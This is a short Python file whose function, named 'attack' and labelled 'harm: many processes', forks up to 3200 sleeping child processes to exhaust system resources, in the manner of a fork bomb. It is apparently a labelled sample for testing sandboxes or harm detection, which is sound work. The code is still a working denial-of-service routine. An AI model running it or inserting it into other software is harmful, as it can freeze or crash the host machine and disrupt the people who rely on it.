# harm: many processes
import os
import time


def attack(a: int = 0) -> int:
    for _ in range(3200):
        try:
            if os.fork() == 0:
                time.sleep(12)
                os._exit(0)
        except OSError:
            break
    time.sleep(2)
    return a
